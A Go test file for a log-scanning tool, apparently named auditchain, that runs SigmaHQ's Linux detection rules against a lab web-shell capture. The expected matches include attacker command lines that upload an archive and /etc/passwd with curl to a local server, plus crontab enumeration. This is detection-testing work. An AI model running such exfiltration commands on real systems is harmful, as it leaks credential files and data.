package main

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// sigmaHQLinux is SigmaHQ's rules/linux of release r2026-07-01, unmodified
// (testdata/sigmahq/SOURCE.md).
const sigmaHQLinux = "../../testdata/sigmahq/rules/linux"

// Measured on r2026-07-01: 210 rule files; 188 load and run; the 22 others
// are for logs auditchain does not read (syslog-based linux/builtin and the
// clamav, cron, guacamole, sshd, syslog and vsftpd services).
const (
	sigmaHQRuns    = 188
	sigmaHQSkipped = 22
)

// TestSigmaHQLinuxRules: SigmaHQ's whole Linux folder as --rules on a lab
// capture runs to the end, reports the rules it skips with why, and runs
// the rest (filter_main_mdadm.conf and all).
func TestSigmaHQLinuxRules(t *testing.T) {
	code, out, stderr := runCLIWithin(t, 120*time.Second, nil, "scan", "--reproducible", "--format", "json", "--fail-on", "none",
		"--rules", sigmaHQLinux, classicLog)
	if code != exitOK {
		t.Fatalf("exit %d; stderr:\n%s", code, stderr)
	}
	var rep scanRuleSet
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	rs := rep.RuleSet
	if rs == nil {
		t.Fatal("report has no rule_set")
	}
	if rs.Run != builtinRuns(t)+sigmaHQRuns || rs.Skipped != sigmaHQSkipped || len(rs.SkippedRules) != sigmaHQSkipped {
		t.Errorf("rule_set run %d skipped %d (%d listed), want %d+%d run, %d skipped",
			rs.Run, rs.Skipped, len(rs.SkippedRules), builtinRuns(t), sigmaHQRuns, sigmaHQSkipped)
	}
	for _, s := range rs.SkippedRules {
		if !strings.Contains(s.File, "/builtin/") || !strings.Contains(s.Reason, "not observed") || s.Line == 0 {
			t.Errorf("skipped %s:%d %s: %s", s.File, s.Line, s.RuleID, s.Reason)
		}
		if !strings.Contains(stderr, s.RuleID+" skipped: "+s.Reason) {
			t.Errorf("stderr lacks skipped rule %s", s.RuleID)
		}
	}
	if !strings.Contains(stderr, "22 skipped") {
		t.Errorf("stderr lacks the count of skipped rules")
	}
}

// builtinRuns is the number of built-in rules, which all run.
func builtinRuns(t *testing.T) int {
	t.Helper()
	_, out, _ := runCLI(t, "", "rules", "--format", "json")
	var doc struct{ Rules []struct{ Runnable bool } }
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	return len(doc.Rules)
}

// TestSigmaHQRulesOnLab: SigmaHQ rules run alone ('rules test') on the
// classic web-shell capture match what its ground truth says happened.
func TestSigmaHQRulesOnLab(t *testing.T) {
	tests := []struct {
		rule string
		want []string // the matched command lines, in order
	}{
		// ground truth crontab-www-data: the attacker lists the crontab first
		{"process_creation/proc_creation_lnx_crontab_enumeration.yml", []string{`"crontab -l"`}},
		// ground truth exfil-curl-upload
		{"process_creation/proc_creation_lnx_curl_usage.yml", []string{
			`"curl -s -T /tmp/.d.tgz http://127.0.0.1:8000/up/d.tgz"`,
			`"curl -s --data-binary @/etc/passwd http://127.0.0.1:8000/p"`}},
		// the rule with filter_main_mdadm.conf: it runs; nothing in this
		// capture edits a sensitive file with an editor or a redirection
		{"process_creation/proc_creation_lnx_susp_sensitive_file_access.yml", nil},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			code, out, stderr := runCLIWithin(t, 60*time.Second, nil, "rules", "test", sigmaHQLinux+"/"+tt.rule, classicLog)
			if code != exitOK {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			var got []string
			for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
				if i := strings.Index(l, `"`); i >= 0 {
					got = append(got, l[i:strings.LastIndex(l, `"`)+1])
				}
			}
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") || !strings.HasSuffix(strings.TrimSpace(out), itoa(len(tt.want))+" matches") {
				t.Errorf("matches:\n%s\nwant %q", out, tt.want)
			}
		})
	}
}

// TestRulesTableWidth: 'rules' fits 100 columns with SigmaHQ's ids and
// titles; --wide keeps every column.
func TestRulesTableWidth(t *testing.T) {
	code, out, _ := runCLI(t, "", "rules", "--rules", sigmaHQLinux)
	if code != exitOK {
		t.Fatalf("exit %d", code)
	}
	for i, l := range strings.Split(out, "\n") {
		if n := len([]rune(l)); n > 100 {
			t.Errorf("line %d is %d columns: %s", i+1, n, l)
		}
	}
	if !strings.Contains(out, "22 skipped") || !strings.Contains(out, "Skipped: 22 rules cannot be loaded or run") {
		t.Errorf("rules output lacks the skipped rules")
	}
	_, wide, _ := runCLI(t, "", "rules", "--wide", "--rules", sigmaHQLinux)
	if !strings.Contains(wide, "TECHNIQUES") || !strings.Contains(wide, "T1565.001") {
		t.Errorf("--wide lacks the techniques column")
	}
}
